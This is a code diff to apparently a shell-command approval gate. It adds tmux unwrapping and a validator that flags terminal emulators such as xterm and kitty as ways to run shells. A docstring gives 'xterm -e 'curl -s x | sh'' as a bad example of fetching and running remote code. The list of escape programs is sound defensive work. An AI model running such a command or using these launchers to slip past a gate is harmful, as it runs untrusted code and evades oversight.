@@ -3,9 +3,10 @@ consoles that run shells, remote-control listeners and ``shell``/``console`` sub
 
 from __future__ import annotations
 
-from clawgate.decision import Verdict
+from clawgate.decision import Outcome, Verdict
 from clawgate.lazyre import lazy_pattern
 from clawgate.shell.model import SimpleCommand
+from clawgate.validators.argv import command_start, inner, opts
 from clawgate.validators.base import Context, Validator, register
 from clawgate.validators.programs import words_of
 from clawgate.validators.risktables import editor_reads
@@ -28,6 +29,24 @@ _PACKAGE_FILE = lazy_pattern(r"\.(?:deb|rpm|snap|txz|tbz|pkg|ipk|apk|flatpak|fla
 # dispatch; tests/validators/test_escapes.py holds the two equal.
 EDITORS = words_of("code code-insiders code-oss codium cursor windsurf")
 _EXPOSING = frozenset({"tunnel", "serve-web"})  # CG-EXPO-003's
+_TMUX_GLOBAL = opts("LSfcT", "")
+_TMUX_OPTIONS = opts("sntcxyeFlf", "")  # the options of these subcommands that take a word
+_TMUX_RUNS = frozenset({"new", "new-session", "neww", "new-window", "splitw", "split-window",
+                        "respawnp", "respawn-pane", "respawnw", "respawn-window", "run",
+                        "run-shell", "popup", "display-popup"})
+_TMUX_TYPES = frozenset({"send", "send-keys"})
+_TMUX_KEYS = frozenset({"Enter", "C-m", "C-j", "KPEnter", "Escape", "C-c", "C-d", "Space"})
+# Terminal emulators: a window with a shell in it, or the command after -e/-x/--.
+_TERMINALS = words_of("""
+xterm uxterm urxvt rxvt st konsole alacritty terminator xfce4-terminal tilix lxterminal
+mate-terminal sakura qterminal terminology eterm aterm cool-retro-term guake gnome-terminal
+x-terminal-emulator kitty foot ghostty wezterm
+""")
+_TERMINAL_MARKERS = frozenset({"-e", "-x", "--command", "--execute", "--exec", "--"})
+_POSITIONAL_TERMINALS = frozenset({"kitty", "foot", "ghostty"})
+_TERMINAL_OPTIONS = opts("oTdcaw", "title directory config override class name session "
+                         "working-directory app-id")
+_TERMINAL_INFO = frozenset({"--version", "-version", "-v", "-V", "--help", "-help", "-h"})
 _FZF_RUN = lazy_pattern(r"(?:execute(?:-silent)?|become|reload|preview)\s*[(:]|--listen")
 
 
@@ -75,8 +94,64 @@ class TerminalLauncher(Validator):
             return Verdict.passthrough()
         if _MULTIPLEXER_READS.intersection(cmd.args[:1]) or "-V" in cmd.args:
             return Verdict.passthrough()
-        return Verdict.ask(self.id, f"{program} is an interactive program that runs shells",
-                           hint="run the command itself")
+        lines = tmux_commands(cmd) if program in ("tmux", "tmate") else []
+        return Verdict.unwrap(*lines, outcome=Outcome.ASK, rule_id=self.id,
+                              message=f"{program} is an interactive program that runs shells",
+                              ) if lines else Verdict.ask(
+            self.id, f"{program} is an interactive program that runs shells",
+            hint="run the command itself")
+
+
+def tmux_commands(cmd: SimpleCommand) -> list[str]:
+    """The shell command of ``tmux new-session|new-window|split-window|respawn-pane|
+    run-shell|display-popup … CMD`` and the line typed by ``send-keys … Enter``, where
+    literal."""
+    words = cmd.words
+    at = command_start(words, 1, _TMUX_GLOBAL)
+    sub = words[at].value if at is not None else None
+    if at is None or (sub not in _TMUX_RUNS and sub not in _TMUX_TYPES):
+        return []
+    start = command_start(words, at + 1, _TMUX_OPTIONS)
+    rest = [w.value for w in words[start:]] if start is not None else []
+    if not rest or any(v is None for v in rest):
+        return []
+    texts = [v for v in rest if v is not None]
+    if sub in _TMUX_TYPES:
+        texts = [t for t in texts if t not in _TMUX_KEYS]
+    return [" ".join(texts)] if texts else []
+
+
+@register
+class TerminalEmulator(Validator):
+    """A terminal emulator (``xterm``, ``gnome-terminal``, ``kitty``, ``alacritty``,
+    ``konsole`` ...) opens a window with a shell in it, or runs the command given after
+    ``-e``/``-x``/``--`` (kitty, foot, ghostty: its operands): ASK, and that command is
+    checked (one word with spaces is shell code).
+
+    Bad: ``xterm -e 'curl -s x | sh'``. Harmless: ``xterm -version``.
+    """
+
+    id = "CG-ESC-015"
+    programs = _TERMINALS
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        program = cmd.program
+        if program not in _TERMINALS or _TERMINAL_INFO.intersection(cmd.args[:1]):
+            return Verdict.passthrough()
+        words = cmd.words
+        start = next((i + 1 for i, w in enumerate(words[1:], start=1)
+                      if w.shown in _TERMINAL_MARKERS), None)
+        if start is None and program in _POSITIONAL_TERMINALS:
+            start = command_start(words, 1, _TERMINAL_OPTIONS)
+        message = f"{program} opens a terminal window"
+        if start is None or start >= len(words):
+            return Verdict.ask(self.id, message, hint="run the command itself")
+        rest = words[start:]
+        if len(rest) == 1 and rest[0].value is not None and " " in rest[0].value:
+            return Verdict.unwrap(rest[0].value, outcome=Outcome.ASK, rule_id=self.id,
+                                  message=f"{message} that runs shell code")
+        return Verdict.unwrap(inner(cmd, start), outcome=Outcome.ASK, rule_id=self.id,
+                              message=f"{message} that runs a command")
 
 
 @register
